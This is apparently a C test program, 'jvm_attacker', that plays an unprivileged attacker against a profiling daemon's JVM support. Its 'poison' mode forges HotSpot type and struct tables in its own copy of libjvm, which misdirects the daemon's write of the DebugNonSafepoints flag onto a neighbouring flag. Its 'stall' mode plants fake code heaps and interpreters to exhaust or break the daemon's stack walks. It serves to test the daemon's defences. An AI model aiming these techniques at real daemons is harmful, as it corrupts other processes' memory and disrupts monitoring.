// An unprivileged user's attacks on the daemon's JVM support (issue #23,
// points 1 and 2), run as `nobody`. Both `dlopen` the system's real
// libjvm without creating a VM and rewrite HotSpot's tables in their own
// private copy of it.
//
//   jvm_attacker poison LIBJVM DIR
//     Makes the layout read from this process steer the DebugNonSafepoints
//     write onto a neighbouring flag j: sizeof(JVMFlag) in its
//     gHotSpotVMTypes is made m times larger and the JVMFlag::_name offset
//     in its gHotSpotVMStructs moved by (i - j) entries, so a reader
//     scanning another JVM's flag table with that layout finds
//     "DebugNonSafepoints" in the entry that starts at flag j and takes
//     flag j's _addr. Then 18 decoys, each mapping its own copy
//     of libjvm (DIR/K/libjvm.so), flush any per-file cache, and a child
//     that inherits the poisoned copy shows itself. Prints "ready PID",
//     then "neighbour NAME" and "child PID", and sleeps.
//
//   jvm_attacker stall LIBJVM THREADS [hops|stride0|frame [DELAY]]
//     Points CodeCache::_heaps at a fake code heap covering 4 MiB of its
//     own anonymous executable memory: two threads run a nop sled in it,
//     THREADS more sleep 0.1 s at a time called from distinct stubs in it.
//     It also points AbstractInterpreter::_code at a fake interpreter, so
//     that the daemon registers the fake heap for the BPF walk too (issue
//     #27). The heap is forged three ways:
//       hops (the default): a segment map all 0x01 (every segment "one
//         back"), the stubs far from the heap's start: walks are long, and
//         the BPF walk's segment-map hops run out on every pc in it;
//       stride0: a segment size of 1 byte (log2 0): the daemon must refuse
//         the heap before any walk;
//       frame: a proper segment map and one blob from the heap's start
//         whose frame size is 2^20 words (8 MiB), every thread's code
//         within its first 64 KiB: the BPF walk must refuse the frame.
//     With DELAY (seconds), the threads run that long before the heap and
//     the interpreter are set up, as in a JVM seen before its code cache
//     exists. Prints "ready PID" and runs until killed.
#define _GNU_SOURCE
#include <dlfcn.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>
#include <unistd.h>

static void *jvm;

static uint64_t sym64(const char *name) {
	uint64_t *p = dlsym(jvm, name);
	if (!p) {
		fprintf(stderr, "no %s\n", name);
		exit(2);
	}
	return *p;
}

// One gHotSpotVMStructs entry: where its fields are.
static char *structs;
static uint64_t s_stride, s_type, s_field, s_static, s_offset, s_address;

static char *field_entry(const char *type, const char *field) {
	for (char *e = structs;; e += s_stride) {
		const char *t = *(const char **)(e + s_type);
		if (!t)
			return NULL;
		const char *f = *(const char **)(e + s_field);
		if (!strcmp(t, type) && f && !strcmp(f, field))
			return e;
	}
}

static uint64_t offset_of(const char *type, const char *field) {
	char *e = field_entry(type, field);
	if (!e) {
		fprintf(stderr, "no %s::%s\n", type, field);
		exit(2);
	}
	return *(uint64_t *)(e + s_offset);
}

static void *static_at(const char *type, const char *field) {
	char *e = field_entry(type, field);
	if (!e) {
		fprintf(stderr, "no %s::%s\n", type, field);
		exit(2);
	}
	return *(void **)(e + s_address);
}

static uint64_t size_of(const char *type) {
	char *types = (char *)sym64("gHotSpotVMTypes");
	uint64_t stride = sym64("gHotSpotVMTypeEntryArrayStride");
	uint64_t name = sym64("gHotSpotVMTypeEntryTypeNameOffset");
	uint64_t size = sym64("gHotSpotVMTypeEntrySizeOffset");
	for (char *e = types;; e += stride) {
		const char *t = *(const char **)(e + name);
		if (!t)
			break;
		if (!strcmp(t, type))
			return *(uint64_t *)(e + size);
	}
	fprintf(stderr, "no sizeof(%s)\n", type);
	exit(2);
}

static void open_jvm(const char *path) {
	jvm = dlopen(path, RTLD_NOW | RTLD_LOCAL);
	if (!jvm) {
		fprintf(stderr, "dlopen %s: %s\n", path, dlerror());
		exit(2);
	}
	structs = (char *)sym64("gHotSpotVMStructs");
	s_stride = sym64("gHotSpotVMStructEntryArrayStride");
	s_type = sym64("gHotSpotVMStructEntryTypeNameOffset");
	s_field = sym64("gHotSpotVMStructEntryFieldNameOffset");
	s_static = sym64("gHotSpotVMStructEntryIsStaticOffset");
	s_offset = sym64("gHotSpotVMStructEntryOffsetOffset");
	s_address = sym64("gHotSpotVMStructEntryAddressOffset");
}

static void writable(void *p, size_t len) {
	uintptr_t page = (uintptr_t)p & ~(uintptr_t)4095;
	size_t span = ((uintptr_t)p + len - page + 4095) & ~(size_t)4095;
	if (mprotect((void *)page, span, PROT_READ | PROT_WRITE)) {
		perror("mprotect");
		exit(2);
	}
}

// Burns CPU for `ms` milliseconds in libjvm's own code (JVM_NanoTime needs
// no VM), so the daemon samples this process there and sees it map libjvm.
static void busy(void *lib, int ms) {
	long (*nano)(void *, void *) = (long (*)(void *, void *))dlsym(lib, "JVM_NanoTime");
	if (!nano)
		_exit(2);
	long t0 = nano(NULL, NULL);
	while (nano(NULL, NULL) - t0 < ms * 1000000L)
		;
}

// Whether `p` lies in a writable mapping of this process (a product flag,
// not a constant one of a develop flag).
static int is_writable(const void *p) {
	FILE *maps = fopen("/proc/self/maps", "r");
	char line[4096];
	int found = 0;
	while (maps && fgets(line, sizeof line, maps)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) == 3 && lo <= (uintptr_t)p &&
		    (uintptr_t)p < hi)
			found = perms[1] == 'w';
	}
	if (maps)
		fclose(maps);
	return found;
}

static int poison(const char *lib, const char *dir) {
	open_jvm(lib);
	char **flags = *(char ***)static_at("JVMFlag", "flags");
	uint64_t count = *(uint64_t *)static_at("JVMFlag", "numFlags");
	uint64_t size = size_of("JVMFlag");
	uint64_t name_off = offset_of("JVMFlag", "_name");
	uint64_t addr_off = offset_of("JVMFlag", "_addr");
	char *table = (char *)flags;
	long i = -1;
	for (uint64_t k = 0; k < count; k++) {
		const char *n = *(const char **)(table + k * size + name_off);
		if (n && !strcmp(n, "DebugNonSafepoints"))
			i = (long)k;
	}
	if (i < 0) {
		fprintf(stderr, "no DebugNonSafepoints\n");
		return 2;
	}
	// A reader that takes sizeof(JVMFlag) and the offset of _name from
	// the tables, and reads each entry's fields within the entry, finds
	// "DebugNonSafepoints" in the entry d flags after the one it takes
	// _addr from when entries are m times larger and _name d entries
	// further: flag j = i - d, a multiple of m, writable and off.
	long j = -1, m = 0;
	for (long mm = 2; mm <= 16 && j < 0; mm++) {
		long k = (i - 1) / mm * mm;
		const char *n = *(const char **)(table + k * size + name_off);
		char *value = *(char **)(table + k * size + addr_off);
		if (k > 0 && n && value && *value == 0 && is_writable(value) &&
		    is_writable(table + (count + 1) * size * mm)) {
			j = k;
			m = mm;
		}
	}
	if (j < 0) {
		fprintf(stderr, "no neighbour flag\n");
		return 2;
	}
	char *entry = field_entry("JVMFlag", "_name");
	writable(entry + s_offset, 8);
	*(uint64_t *)(entry + s_offset) = name_off + (uint64_t)(i - j) * size;
	char *types = (char *)sym64("gHotSpotVMTypes");
	uint64_t t_stride = sym64("gHotSpotVMTypeEntryArrayStride");
	uint64_t t_name = sym64("gHotSpotVMTypeEntryTypeNameOffset");
	uint64_t t_size = sym64("gHotSpotVMTypeEntrySizeOffset");
	for (char *e = types; *(const char **)(e + t_name); e += t_stride) {
		if (!strcmp(*(const char **)(e + t_name), "JVMFlag")) {
			writable(e + t_size, 8);
			*(uint64_t *)(e + t_size) = size * m;
		}
	}
	printf("ready %d\n", getpid());
	printf("neighbour %s\n", *(const char **)(table + j * size + name_off));
	fflush(stdout);
	// Decoys, each with its own copy of libjvm: any cache of layouts per
	// libjvm file is full, then flushed.
	for (int k = 0; k < 18; k++) {
		if (fork() == 0) {
			char path[4096];
			snprintf(path, sizeof path, "%s/%d/libjvm.so", dir, k);
			void *copy = dlopen(path, RTLD_NOW | RTLD_LOCAL);
			if (!copy)
				_exit(1);
			// A child of the process that mapped it, so the daemon
			// sees it mapped from the start.
			if (fork() == 0) {
				busy(copy, 1500);
				_exit(0);
			}
			wait(NULL);
			_exit(0);
		}
	}
	while (wait(NULL) > 0)
		;
	// A child with the poisoned copy, sampled and seen as a JVM.
	pid_t child = fork();
	if (child == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		for (;;) {
			busy(jvm, 500);
			sleep(1);
		}
	}
	printf("child %d\n", child);
	fflush(stdout);
	for (;;)
		pause();
}

static void sleeper(void) {
	for (;;)
		usleep(100000);
}

// A stub in the fake heap: push %rbp; mov %rsp,%rbp; call *%rdi;
// pop %rbp; ret.
static const unsigned char STUB[] = {0x55, 0x48, 0x89, 0xe5, 0xff, 0xd7, 0x5d, 0xc3};

static unsigned char *code;
#define CODE (4u << 20)
#define STUB_SPACE 256

enum shape { HOPS, STRIDE0, FRAME };

// Where the sled (from `sled` to `stubs`) and the stubs go.
static size_t sled, stubs;

static void *sled_thread(void *arg) {
	(void)arg;
	((void (*)(void))(code + sled))();
	return NULL;
}

static void *sleep_thread(void *arg) {
	long k = (long)arg;
	((void (*)(void (*)(void)))(code + stubs + k * STUB_SPACE))(sleeper);
	return NULL;
}

// A segment map as HotSpot keeps it for one block from segment 0: each
// entry says how far back to hop, at most 254 at a time.
static void one_block_map(unsigned char *segmap, size_t segments) {
	segmap[0] = 0;
	for (size_t k = 1; k < segments; k++)
		segmap[k] = (unsigned char)((k - 1) % 254 + 1);
}

static int stall(const char *lib, int threads, enum shape shape, int delay) {
	open_jvm(lib);
	code = mmap(NULL, CODE, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (code == MAP_FAILED) {
		perror("mmap");
		return 2;
	}
	memset(code, 0x90, CODE);
	// frame: all within the first 64 KiB (one segment-map read, a few
	// hops), past the blob's header; else the sled fills the first half.
	sled = shape == FRAME ? 4096 : 0;
	stubs = shape == FRAME ? 32768 : CODE / 2;
	size_t room = shape == FRAME ? 65536 - stubs : CODE - stubs;
	if ((size_t)threads * STUB_SPACE > room)
		threads = room / STUB_SPACE;
	for (int k = 0; k < threads; k++)
		memcpy(code + stubs + k * STUB_SPACE, STUB, sizeof STUB);
	// The sled's end jumps back to its start: jmp rel32.
	unsigned char *end = code + stubs - 5;
	int32_t rel = (int32_t)((code + sled) - (end + 5));
	end[0] = 0xe9;
	memcpy(end + 1, &rel, 4);
	// The fake heap: a GrowableArray of one CodeHeap covering `code`.
	size_t segments = CODE >> 6;
	unsigned char *segmap = malloc(segments);
	if (shape == FRAME) {
		one_block_map(segmap, segments);
		char *blob = (char *)code + size_of("HeapBlock");
		memset(code, 0, sled);
		*(int *)(blob + offset_of("CodeBlob", "_frame_size")) = 1 << 20;
	} else {
		memset(segmap, 1, segments);
	}
	pthread_t t;
	for (long k = 0; k < threads; k++)
		pthread_create(&t, NULL, sleep_thread, (void *)k);
	pthread_create(&t, NULL, sled_thread, NULL);
	pthread_create(&t, NULL, sled_thread, NULL);
	if (delay > 0) {
		printf("ready %d\n", getpid());
		fflush(stdout);
		sleep(delay);
	}
	char *heap = calloc(1, 4096), *array = calloc(1, 4096);
	void **data = calloc(1, 64);
	data[0] = heap;
	uint64_t memory = offset_of("CodeHeap", "_memory"), map = offset_of("CodeHeap", "_segmap");
	uint64_t low = offset_of("VirtualSpace", "_low_boundary");
	uint64_t high = offset_of("VirtualSpace", "_high_boundary");
	*(void **)(heap + memory + low) = code;
	*(void **)(heap + memory + high) = code + CODE;
	*(void **)(heap + map + low) = segmap;
	*(void **)(heap + map + high) = segmap + segments;
	*(int *)(heap + offset_of("CodeHeap", "_log2_segment_size")) = shape == STRIDE0 ? 0 : 6;
	uint64_t len = field_entry("GrowableArrayBase", "_len") ? offset_of("GrowableArrayBase", "_len")
								: offset_of("GenericGrowableArray", "_len");
	*(int *)(array + len) = 1;
	*(void ***)(array + offset_of("GrowableArray<int>", "_data")) = data;
	*(void **)static_at("CodeCache", "_heaps") = array;
	// A fake interpreter: a StubQueue whose buffer is a page of its own.
	char *queue = calloc(1, 4096), *interp = calloc(1, 4096);
	*(void **)(queue + offset_of("StubQueue", "_stub_buffer")) = interp;
	*(int *)(queue + offset_of("StubQueue", "_buffer_limit")) = 4096;
	*(void **)static_at("AbstractInterpreter", "_code") = queue;
	if (delay <= 0) {
		printf("ready %d\n", getpid());
		fflush(stdout);
	}
	for (;;)
		pause();
}

static enum shape shape_of(const char *name) {
	if (!strcmp(name, "hops"))
		return HOPS;
	if (!strcmp(name, "stride0"))
		return STRIDE0;
	if (!strcmp(name, "frame"))
		return FRAME;
	fprintf(stderr, "no shape %s\n", name);
	exit(2);
}

int main(int argc, char **argv) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 4 && !strcmp(argv[1], "poison"))
		return poison(argv[2], argv[3]);
	if (argc >= 4 && argc <= 6 && !strcmp(argv[1], "stall"))
		return stall(argv[2], atoi(argv[3]), argc >= 5 ? shape_of(argv[4]) : HOPS,
			     argc == 6 ? atoi(argv[5]) : 0);
	fprintf(stderr, "usage: jvm_attacker poison LIBJVM DIR | stall LIBJVM THREADS [SHAPE [DELAY]]\n");
	return 2;
}
